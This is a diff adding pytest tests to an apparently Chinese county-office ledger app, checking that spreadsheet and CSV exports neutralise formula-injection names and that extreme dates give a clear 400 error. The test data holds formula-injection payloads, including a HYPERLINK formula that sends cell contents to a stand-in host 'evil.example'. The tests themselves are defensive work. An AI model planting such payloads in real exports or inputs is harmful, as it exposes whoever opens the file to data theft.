@@ -3,21 +3,24 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import html
 import io
 import re
 import subprocess
 import sys
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 from litestar import Litestar
 from litestar.testing import TestClient
-from office_kit import seed_store
+from office_kit import Story, seed_store
 from openpyxl import load_workbook
 from test_ledger import stories
 
+from protocol.actions import Applicant, Register
 from sanji.config import NodeSettings, load_settings
 from sanji.demo.cluster import Cluster
 from sanji.keys import read_directory, read_key
@@ -172,3 +175,87 @@ def test_cli_ledger_export_as_a_process(county_node: tuple[Cluster, NodeSettings
         timeout=120,
     )
     assert bad.returncode == 2 and "before it starts" in bad.stderr and not (tmp_path / "x.xlsx").exists()
+
+
+# What people type lands in the office's spreadsheets: names that a spreadsheet would run as formulas.
+HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "@SUM(1+1)*cmd|x", "+1+1", "-1+1", "\t=1+1")
+
+
+def _hostile_stories() -> list[Story]:
+    out = []
+    for i, name in enumerate(HOSTILE_NAMES):
+        story = Story(f"H{i}", "T01", "T01")
+        story.add(Register, "T01", "2026-11-02", matter="MZ-003", applicant=Applicant(name=name.strip()), receipt="")
+        story.accepted("2026-11-02", "2026-11-09").assigned("2026-11-02", "=1+1" if i == 0 else "王芳")
+        out.append(story)
+    return out
+
+
+@pytest.fixture
+def hostile_client(tmp_path: Path) -> Iterator[TestClient[Litestar]]:
+    cluster = Cluster.prepare(tmp_path / "county", towns=2, villages_per_town=1, open_demo=True)
+    settings = load_settings(cluster.nodes["C"].config)
+
+    async def seed() -> None:
+        db = await open_database(settings.db_url)
+        try:
+            directory = read_directory(settings.path(settings.node.directory))
+            store = Store(db, node_id="C", key=read_key(settings.path(settings.node.key_file)), directory=directory)
+            await store.start()
+            await seed_store(store, [*stories(), *_hostile_stories()], cluster.layout.keys)
+        finally:
+            await db.dispose()
+
+    asyncio.run(seed())
+    with TestClient(create_app(settings)) as c:
+        yield c
+
+
+def test_downloads_never_carry_a_live_formula(hostile_client: TestClient[Litestar]) -> None:
+    """A name typed as ``=HYPERLINK(...)`` is text in the XLSX (no <f> cell) and apostrophed in the CSV."""
+    r = hostile_client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "xlsx"})
+    assert r.status_code == 200, r.text
+    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    sheet = load_workbook(io.BytesIO(r.content))["台账"]
+    headers = [c.value for c in sheet[1]]
+    applicant, handler, overdue = (headers.index(h) for h in ("申请人", "经办人", "超期工作日"))
+    rows = [row for row in sheet.iter_rows(min_row=2) if str(row[0].value).startswith("H")]
+    names = {row[applicant].value for row in rows}
+    assert names == {"'" + n.strip() for n in HOSTILE_NAMES}, names
+    assert all(row[applicant].data_type == "s" for row in rows)
+    assert "'=1+1" in {row[handler].value for row in rows}
+    assert all(row[overdue].data_type == "n" for row in rows)  # numbers stay numbers
+    for what in ("ledger", "stats"):
+        r = hostile_client.get("/api/office/ledger/export", params={**NOVEMBER, "format": "csv", "what": what})
+        cells = [cell for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in line]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], what
+        if what == "ledger":
+            assert {"'" + n.strip() for n in HOSTILE_NAMES} <= set(cells), cells  # said as typed, apostrophed
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/office/ledger",
+        "/api/office/ledger",
+        "/api/office/stats",
+        "/api/office/ledger/export",
+        "/office/business/",
+        "/api/office/business/",
+    ],
+)
+def test_a_day_outside_the_years_an_office_asks_about_is_a_clear_400(client: TestClient[Litestar], path: str) -> None:
+    """9999-12-31 overflowed the period arithmetic (a logged OverflowError, a bare JSON 400 even on a screen)."""
+    r = client.get(path, params={"from": "9999-12-30", "to": "9999-12-31"})
+    assert r.status_code == 400, r.text
+    zh, en = "起始日期应在 2000-01-01 至 2099-12-31 之间", "from must fall between 2000-01-01 and 2099-12-31"
+    if path.startswith("/api/"):
+        body = r.json()
+        assert body["message_zh"] == zh and body["message"].startswith(en), body
+    else:
+        assert r.headers["content-type"].startswith("text/html"), r.headers
+        said = html.unescape(r.text)
+        assert zh in said and en in said and said.index(zh) < said.index(en)
